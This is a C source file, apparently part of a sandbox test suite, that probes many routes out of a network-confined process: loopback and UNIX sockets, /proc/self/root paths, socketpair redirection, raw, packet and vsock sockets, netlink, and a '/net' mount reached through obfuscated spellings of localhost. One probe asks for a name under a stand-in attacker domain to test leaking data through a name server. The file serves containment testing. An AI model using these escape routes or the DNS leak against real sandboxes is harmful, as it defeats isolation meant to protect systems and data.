/* SPDX-License-Identifier: GPL-2.0-or-later */
/* Ways out by sockets, by /net, by names. */
#include "config.h"

#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/if_packet.h>
#include <linux/netlink.h>
#include <net/if.h>
#include <netdb.h>
#include <netinet/in.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

#include "ways.h"

static int inet_to(const char *host, unsigned int port, int type)
{
	struct sockaddr_in sin = {.sin_family = AF_INET, .sin_port = htons((uint16_t)port)};
	int fd = socket(AF_INET, type | SOCK_CLOEXEC, 0);

	inet_pton(AF_INET, host, &sin.sin_addr);
	if (fd >= 0 && connect(fd, (void *)&sin, sizeof(sin)) == 0)
		return fd;
	if (fd >= 0)
		close(fd);
	return -1;
}

static bool tcp_loopback(void)
{
	return answers(inet_to("127.0.0.1", outside.tcp4, SOCK_STREAM));
}

static bool tcp_any_address(void)
{
	return answers(inet_to("0.0.0.0", outside.tcp4, SOCK_STREAM));
}

static bool tcp6_loopback(void)
{
	struct sockaddr_in6 sin6 = {
		.sin6_family = AF_INET6,
		.sin6_port = htons((uint16_t)outside.tcp6),
		.sin6_addr = IN6ADDR_LOOPBACK_INIT,
	};
	int fd = socket(AF_INET6, SOCK_STREAM | SOCK_CLOEXEC, 0);

	return fd >= 0 && connect(fd, (void *)&sin6, sizeof(sin6)) == 0 && answers(fd);
}

static bool udp_loopback(void)
{
	int fd = inet_to("127.0.0.1", outside.udp4, SOCK_DGRAM);

	if (fd >= 0)
		(void)!send(fd, "x", 1, 0);
	return answers(fd);
}

/* A datagram to somebody far away is taken only where there is a way. */
static bool udp_far(void)
{
	int fd = inet_to("192.0.2.1", 53, SOCK_DGRAM);

	return fd >= 0 && send(fd, "x", 1, 0) == 1;
}

/* An interface beside the loopback. */
static bool interfaces(void)
{
	struct if_nameindex *list = if_nameindex();
	int n = 0;

	for (struct if_nameindex *i = list; i != NULL && i->if_name != NULL; i++)
		n += strcmp(i->if_name, "lo") != 0 && strcmp(i->if_name, "sit0") != 0 &&
		     strcmp(i->if_name, "ip6tnl0") != 0;
	if_freenameindex(list);
	return n > 0;
}

/* ------------------------------------------------------------------------- UNIX */

static socklen_t unix_name(struct sockaddr_un *sun, const char *name, bool abstract)
{
	memset(sun, 0, sizeof(*sun));
	sun->sun_family = AF_UNIX;
	memcpy(sun->sun_path + abstract, name, strlen(name));
	return (socklen_t)(offsetof(struct sockaddr_un, sun_path) + strlen(name) + abstract);
}

static bool unix_connect(int fd, const char *name, bool abstract)
{
	struct sockaddr_un sun;
	socklen_t len = unix_name(&sun, name, abstract);

	return fd >= 0 && connect(fd, (void *)&sun, len) == 0;
}

static bool unix_stream(void)
{
	int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);

	return unix_connect(fd, outside.stream, false) && answers(fd);
}

static bool unix_stream_by_proc(void)
{
	int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
	char path[108];

	snprintf(path, sizeof(path), "/proc/self/root%.90s", outside.stream);
	return unix_connect(fd, path, false) && answers(fd);
}

static bool unix_abstract(void)
{
	int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);

	return unix_connect(fd, outside.abstract, true) && answers(fd);
}

static bool unix_dgram(void)
{
	int fd = socket(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0);

	return unix_connect(fd, outside.dgram, false) && send(fd, "x", 1, 0) == 1;
}

/* A pair has an end that can be turned elsewhere, if it is one of datagrams. */
static bool pair_to_dgram(int type, bool by_sendto)
{
	struct sockaddr_un sun;
	socklen_t len = unix_name(&sun, outside.dgram, false);
	int fds[2];

	if (socketpair(AF_UNIX, type, 0, fds) != 0)
		return false;
	if (by_sendto)
		return sendto(fds[0], "x", 1, 0, (void *)&sun, len) == 1;
	return connect(fds[0], (void *)&sun, len) == 0 && send(fds[0], "x", 1, 0) == 1;
}

static bool pair_sendto(void)
{
	return pair_to_dgram(SOCK_DGRAM, true);
}

static bool pair_connect(void)
{
	return pair_to_dgram(SOCK_DGRAM, false);
}

static bool pair_raw(void)
{
	return pair_to_dgram(SOCK_RAW, true) || pair_to_dgram(SOCK_RAW | SOCK_NONBLOCK, true);
}

static bool pair_stream(void)
{
	int fds[2];

	return socketpair(AF_UNIX, SOCK_STREAM, 0, fds) == 0 &&
	       unix_connect(fds[0], outside.stream, false);
}

/* The standard descriptors may be sockets; they stay connected where they are. */
static bool inherited(void)
{
	for (int fd = 3; fd < 1024; fd++)
		if (fcntl(fd, F_GETFD) >= 0)
			return true;
	return false;
}

/* ------------------------------------------------------------------ other families */

static bool vsock(void)
{
	return socket(AF_VSOCK, SOCK_STREAM, 0) >= 0;
}

static bool packet(void)
{
	return socket(AF_PACKET, SOCK_DGRAM, 0) >= 0;
}

static bool raw(void)
{
	return socket(AF_INET, SOCK_RAW, IPPROTO_ICMP) >= 0 ||
	       socket(AF_INET6, SOCK_RAW, IPPROTO_ICMPV6) >= 0;
}

static bool other_families(void)
{
	for (int family = 0; family < 64; family++)
		if (family != AF_INET && family != AF_INET6 && family != AF_NETLINK)
			for (int type = SOCK_STREAM; type <= SOCK_SEQPACKET; type++)
				if (socket(family, type, 0) >= 0)
					return true;
	return false;
}

static bool other_netlink(void)
{
	for (int protocol = NETLINK_ROUTE + 1; protocol < 32; protocol++)
		if (socket(AF_NETLINK, SOCK_RAW, protocol) >= 0)
			return true;
	return false;
}

/* An interface needs privilege, also in a network of one's own. */
static bool raise_interface(void)
{
	struct ifreq ifr = {.ifr_name = "lo", .ifr_flags = IFF_UP};
	int fd = socket(AF_INET, SOCK_DGRAM, 0);

	return ioctl(fd, SIOCSIFFLAGS, &ifr) == 0;
}

/* ------------------------------------------------------------------------- the mount */

static bool dial(const char *mount, const char *host)
{
	char path[256];
	int fd;

	snprintf(path, sizeof(path), "%s/tcp/%s/%u", mount, host, outside.tcp4);
	fd = open(path, O_RDWR | O_CLOEXEC);
	if (fd >= 0)
		close(fd);
	return fd >= 0;
}

/* What the policy refuses, in each of its spellings. */
static bool net_spellings(void)
{
	static const char *const hosts[] = {
		"127.0.0.1", "127.1", "0x7f.1", "2130706433", "017700000001", "0", "0.0.0.0",
		"localhost", "LOCALHOST.", "a.localhost", "::ffff:127.0.0.1", "[::ffff:7f00:1]", "::",
		"[::ffff:0:0]", "127.0.0.1%lo", "ip6-localhost",
	};

	for (size_t i = 0; i < sizeof(hosts) / sizeof(hosts[0]); i++)
		if (dial(outside.net, hosts[i]))
			return true;
	return false;
}

static bool net_control(void)
{
	char path[128], line[64];
	int fd;

	snprintf(path, sizeof(path), "%s/way", outside.net);
	fd = open(path, O_RDWR | O_CREAT | O_CLOEXEC, 0600);
	if (fd >= 0)
		close(fd);
	snprintf(path, sizeof(path), "%s/.ctl/way", outside.net);
	snprintf(line, sizeof(line), "connect 127.0.0.1:%u\n", outside.tcp4);
	fd = open(path, O_WRONLY | O_CLOEXEC);
	return fd >= 0 && write(fd, line, strlen(line)) > 0;
}

/* The daemon is outside, and can reach what has a path. */
static bool net_unix(void)
{
	char path[256];

	snprintf(path, sizeof(path), "%s/unix%s", outside.net, outside.stream);
	return opens(path, O_RDWR);
}

static bool net_listen(void)
{
	static const char line[] = "listen 127.0.0.1:0\n";
	char path[128];
	int fd;

	snprintf(path, sizeof(path), "%s/srv", outside.net);
	fd = open(path, O_RDWR | O_CREAT | O_CLOEXEC, 0600);
	if (fd >= 0)
		close(fd);
	snprintf(path, sizeof(path), "%s/.ctl/srv", outside.net);
	fd = open(path, O_WRONLY | O_CLOEXEC);
	return fd >= 0 && write(fd, line, strlen(line)) > 0;
}

/* The question alone would tell a name server. EACCES: it was not put. */
static bool net_tells_names(void)
{
	char path[256];

	snprintf(path, sizeof(path), "%s/tcp/secret-data.evil.example/80", outside.net);
	return open(path, O_RDWR | O_CLOEXEC) >= 0 || errno != EACCES;
}

static bool other_mount(void)
{
	return outside.mount[0] != '\0' && dial(outside.mount, "127.0.0.1");
}

/* Name servers by the C library: files only. */
static bool resolver(void)
{
	struct addrinfo *list, hints = {.ai_family = AF_INET, .ai_socktype = SOCK_STREAM};

	return getaddrinfo("example.com", "80", &hints, &list) == 0;
}

const struct way ways_net[] = {
	{"TCP to the loopback", tcp_loopback, false},
	{"TCP to 0.0.0.0", tcp_any_address, false},
	{"TCP to ::1", tcp6_loopback, false},
	{"UDP to the loopback", udp_loopback, false},
	{"UDP to far away", udp_far, false},
	{"interfaces", interfaces, false},
	{"UNIX stream by path", unix_stream, false},
	{"UNIX stream by /proc/self/root", unix_stream_by_proc, false},
	{"UNIX abstract", unix_abstract, false},
	{"UNIX datagram", unix_dgram, false},
	{"sendto on a pair of datagrams", pair_sendto, false},
	{"connect on a pair of datagrams", pair_connect, false},
	{"a pair of SOCK_RAW", pair_raw, false},
	{"connect on a pair of streams", pair_stream, false},
	{"inherited descriptors", inherited, false},
	{"AF_VSOCK", vsock, false},
	{"AF_PACKET", packet, false},
	{"SOCK_RAW", raw, false},
	{"other families", other_families, false},
	{"other netlink", other_netlink, false},
	{"raising an interface", raise_interface, true},
	{"the mount, by spelling", net_spellings, false},
	{"the mount, by control file", net_control, false},
	{"the mount, by a UNIX socket", net_unix, false},
	{"the mount, by listening", net_listen, false},
	{"the mount, by telling a name server", net_tells_names, false},
	{"another sockfs", other_mount, false},
	{"the resolver of the C library", resolver, false},
	{NULL, NULL, false},
};
